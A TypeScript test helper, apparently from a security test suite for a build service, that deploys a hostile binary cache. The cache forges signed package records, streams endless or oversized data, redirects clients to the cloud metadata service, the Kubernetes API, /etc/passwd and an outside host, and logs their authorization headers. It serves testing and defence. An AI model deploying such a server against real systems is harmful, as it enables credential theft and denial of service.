import { generateKeyPairSync } from 'node:crypto';
import { withSettings } from './deployed-settings.ts';
import { serve } from './own-pods.ts';
import type { Session } from './session.ts';

/**
 * A server of binary caches, one below each path, whose key is trusted. `nar-…` has a signed record of each path that is called like
 * it and sends, as its content, what the cache is named after; `info-…` does so instead of a record.
 */
const program = (privateKey: string, elsewhere: string) => `
const { createPrivateKey, sign } = require('crypto');
const key = createPrivateKey(${JSON.stringify(privateKey)});
const places = {
  metadata: 'http://169.254.169.254/latest/meta-data/',
  api: 'https://kubernetes.default.svc/api',
  file: 'file:///etc/passwd',
  elsewhere: '${elsewhere}/taken',
};
const MiB = 2 ** 20;
const number = (value) => { const bytes = Buffer.alloc(8); bytes.writeBigUInt64LE(BigInt(value)); return bytes; };
const text = (value) => Buffer.concat([number(value.length), Buffer.from(value), Buffer.alloc((8 - value.length % 8) % 8)]);
const oneFile = (size) => Buffer.concat([...['nix-archive-1', '(', 'type', 'regular', 'contents'].map(text), number(size)]);
const bit = (response, size, pause) => {
  const ticking = setInterval(() => response.write(Buffer.alloc(size, 120)), pause);
  response.on('close', () => clearInterval(ticking));
};
const answers = {
  endless: (response, start) => { response.write(start); bit(response, MiB, 250); },
  slow: (response, start) => { response.write(start); bit(response, 1, 500); },
  lying: (response) => response.end(Buffer.concat([oneFile(4), Buffer.from('lies\\0\\0\\0\\0'), text(')')])),
  huge: (response) => response.end(Buffer.alloc(64 * MiB, 'x: ' + 'y'.repeat(60) + '\\n')),
  ...Object.fromEntries(Object.entries(places).map(([name, location]) =>
    [name, (response) => response.writeHead(302, { location }).end()])),
};
const record = (hash, name) => {
  const path = '/nix/store/' + hash + '-' + name, narHash = 'sha256:' + '0'.repeat(52), size = 2 ** 40;
  const signature = sign(null, Buffer.from(['1', path, narHash, size, ''].join(';')), key).toString('base64');
  return 'StorePath: ' + path + '\\nURL: nar/' + hash + '\\nCompression: none\\nNarHash: ' + narHash +
    '\\nNarSize: ' + size + '\\nReferences: \\nSig: hostile-1:' + signature + '\\n';
};
const seen = [];
require('http').createServer((request, response) => {
  const [, cache, ...rest] = request.url.split('/');
  if (cache === 'seen') return response.end(JSON.stringify(seen));
  seen.push(request.url + ' ' + (request.headers.authorization ?? ''));
  const [what, name] = cache.split('-');
  const asked = rest.join('/');
  if (asked === 'nix-cache-info') return response.end('StoreDir: /nix/store\\nWantMassQuery: 1\\nPriority: 30\\n');
  const isInfo = asked.endsWith('.narinfo');
  if (answers[name] === undefined || !(isInfo || asked.startsWith('nar/'))) return response.writeHead(404).end();
  if (isInfo && what === 'nar') return response.end(record(asked.replace('.narinfo', ''), name));
  answers[name](response, isInfo ? Buffer.from('StorePath: ') : oneFile(2 ** 40));
}).listen(8080);
`;

/** Has all builds ask these caches, in this order, until the end; they are in a Pod `cache` of the attacker's. */
export async function useHostileCaches(session: Session, caches: readonly string[], elsewhere = ''): Promise<void> {
  const { privateKey, publicKey } = generateKeyPairSync('ed25519');
  const pem = privateKey.export({ type: 'pkcs8', format: 'pem' }).toString();
  const host = await serve(session, 'cache', program(pem, elsewhere));
  const bytes = Buffer.from(publicKey.export({ format: 'jwk' }).x ?? '', 'base64url');
  await withSettings(session, {
    ENBI_SUBSTITUTERS: caches.map((cache) => `http://${host}:8080/${cache}`).join(' '),
    ENBI_TRUSTED_PUBLIC_KEYS: `hostile-1:${bytes.toString('base64')}`,
  });
}

/** What the Pod `cache` was asked for, so far. */
export function askedOfCaches({ attacker }: Session): Promise<string> {
  return attacker.kubectl(['exec', 'cache', '--', 'wget', '-q', '-O', '-', 'http://127.0.0.1:8080/seen']);
}
